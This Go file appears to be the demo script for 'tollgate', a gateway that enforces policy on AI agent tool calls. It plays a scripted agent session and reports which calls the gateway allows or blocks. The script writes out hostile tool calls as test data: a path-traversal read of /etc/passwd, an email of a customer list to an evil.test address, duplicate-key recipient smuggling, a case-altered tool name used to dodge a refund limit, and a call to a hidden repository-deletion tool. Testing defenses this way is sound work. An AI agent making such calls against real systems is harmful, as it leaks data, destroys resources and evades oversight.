package demo

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"strings"
)

// Step is one message of the scripted agent session.
type Step struct {
	What    string // what the agent tries, in words
	Message string // the raw JSON-RPC line it sends
}

// Script is the agent session `tollgate demo` plays: ordinary work, limits,
// argument checks, a hidden tool, and tricks that must not get through.
var Script = []Step{
	{"start the session", `{"jsonrpc":"2.0","id":0,"method":"initialize","params":{"protocolVersion":"2025-11-25","capabilities":{},"clientInfo":{"name":"demo-agent","version":"1.0"}}}`},
	{"list the tools", `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`},
	{"check the weather", `{"jsonrpc":"2.0","id":2,"method":"tools/call","params":{"name":"get_weather","arguments":{"city":"Lisbon"}}}`},
	{"search the docs", `{"jsonrpc":"2.0","id":3,"method":"tools/call","params":{"name":"search_docs","arguments":{"query":"refund policy"}}}`},
	{"read a project file", `{"jsonrpc":"2.0","id":4,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"/srv/project/README.md"}}}`},
	{"read /etc/passwd by path traversal", `{"jsonrpc":"2.0","id":5,"method":"tools/call","params":{"name":"read_file","arguments":{"path":"/srv/project/../../etc/passwd"}}}`},
	{"email a colleague", `{"jsonrpc":"2.0","id":6,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"alice@example.com","subject":"Weekly report"}}}`},
	{"email an outsider", `{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"someone@evil.test","subject":"Customer list"}}}`},
	{"smuggle a second recipient (duplicate key)", `{"jsonrpc":"2.0","id":8,"method":"tools/call","params":{"name":"send_email","arguments":{"to":"alice@example.com","to":"someone@evil.test","subject":"hi"}}}`},
	{"refund $40", `{"jsonrpc":"2.0","id":9,"method":"tools/call","params":{"name":"create_refund","arguments":{"charge_id":"ch_1","amount":40}}}`},
	{"refund $500", `{"jsonrpc":"2.0","id":10,"method":"tools/call","params":{"name":"create_refund","arguments":{"charge_id":"ch_2","amount":500}}}`},
	{"refund $90, then $30 more", `{"jsonrpc":"2.0","id":11,"method":"tools/call","params":{"name":"create_refund","arguments":{"charge_id":"ch_3","amount":90}}}`},
	{"", `{"jsonrpc":"2.0","id":12,"method":"tools/call","params":{"name":"create_refund","arguments":{"charge_id":"ch_4","amount":30}}}`},
	{"refund the amount as a string", `{"jsonrpc":"2.0","id":13,"method":"tools/call","params":{"name":"create_refund","arguments":{"charge_id":"ch_5","amount":"20"}}}`},
	{"refund $500 as Create_Refund (the server ignores case)", `{"jsonrpc":"2.0","id":18,"method":"tools/call","params":{"name":"Create_Refund","arguments":{"charge_id":"ch_6","amount":500}}}`},
	{"delete a repository (hidden tool)", `{"jsonrpc":"2.0","id":14,"method":"tools/call","params":{"name":"delete_repository","arguments":{"repo":"acme/api"}}}`},
	{"check the weather 3 more times", `{"jsonrpc":"2.0","id":15,"method":"tools/call","params":{"name":"get_weather","arguments":{"city":"Porto"}}}`},
	{"", `{"jsonrpc":"2.0","id":16,"method":"tools/call","params":{"name":"get_weather","arguments":{"city":"Faro"}}}`},
	{"", `{"jsonrpc":"2.0","id":17,"method":"tools/call","params":{"name":"get_weather","arguments":{"city":"Braga"}}}`},
}

// Row is one line of the demo's report.
type Row struct {
	What, Tool, Args, Outcome, Detail string
}

// Play sends each step on w, reads the answer from r, and returns the report.
func Play(w io.Writer, r io.Reader) ([]Row, error) {
	rd := bufio.NewReader(r)
	var rows []Row
	for _, st := range Script {
		if _, err := io.WriteString(w, st.Message+"\n"); err != nil {
			return rows, fmt.Errorf("demo: send: %w", err)
		}
		line, err := rd.ReadBytes('\n')
		if err != nil {
			return rows, fmt.Errorf("demo: read answer to %q: %w", st.What, err)
		}
		rows = append(rows, describe(st, line))
	}
	return rows, nil
}

func describe(st Step, answer []byte) Row {
	var req struct {
		Method string `json:"method"`
		Params struct {
			Name      string          `json:"name"`
			Arguments json.RawMessage `json:"arguments"`
		} `json:"params"`
	}
	_ = json.Unmarshal([]byte(st.Message), &req)
	row := Row{What: st.What, Tool: req.Params.Name, Args: string(req.Params.Arguments)}
	if req.Method != "tools/call" {
		row.Tool = req.Method
	}
	var resp struct {
		Result struct {
			Tools   []struct{ Name string } `json:"tools"`
			Content []struct{ Text string } `json:"content"`
			IsError bool                    `json:"isError"`
			Meta    map[string]struct {
				Action string `json:"action"`
				Rule   string `json:"rule"`
				Reason string `json:"reason"`
			} `json:"_meta"`
			ServerInfo struct{ Name string } `json:"serverInfo"`
		} `json:"result"`
		Error *struct {
			Code    int    `json:"code"`
			Message string `json:"message"`
		} `json:"error"`
	}
	if err := json.Unmarshal(answer, &resp); err != nil {
		row.Outcome, row.Detail = "?", Summary(string(answer))
		return row
	}
	switch {
	case resp.Error != nil:
		row.Outcome = "REJECTED"
		if strings.HasPrefix(resp.Error.Message, "Unknown tool") {
			row.Outcome = "HIDDEN"
			row.Detail = "answered as the server answers a tool it lacks: " + resp.Error.Message
		} else {
			row.Detail = fmt.Sprintf("JSON-RPC error %d: %s", resp.Error.Code, Summary(resp.Error.Message))
		}
	case req.Method == "tools/list":
		names := make([]string, len(resp.Result.Tools))
		for i, t := range resp.Result.Tools {
			names[i] = t.Name
		}
		row.Outcome = "allowed"
		row.Detail = fmt.Sprintf("%d tools: %s", len(names), strings.Join(names, ", "))
	case req.Method == "initialize":
		row.Outcome = "allowed"
		row.Detail = "connected to " + resp.Result.ServerInfo.Name
	case resp.Result.IsError:
		d, ok := resp.Result.Meta["dev.tollgate/decision"]
		row.Outcome = "DENIED"
		if ok {
			row.Detail = d.Reason
			if d.Rule != "" {
				row.Detail = fmt.Sprintf("%s (rule %q)", d.Reason, d.Rule)
			}
		} else if len(resp.Result.Content) > 0 {
			row.Outcome = "tool error"
			row.Detail = Summary(resp.Result.Content[0].Text)
		}
	default:
		row.Outcome = "allowed"
		if len(resp.Result.Content) > 0 {
			row.Detail = Summary(resp.Result.Content[0].Text)
		}
	}
	return row
}
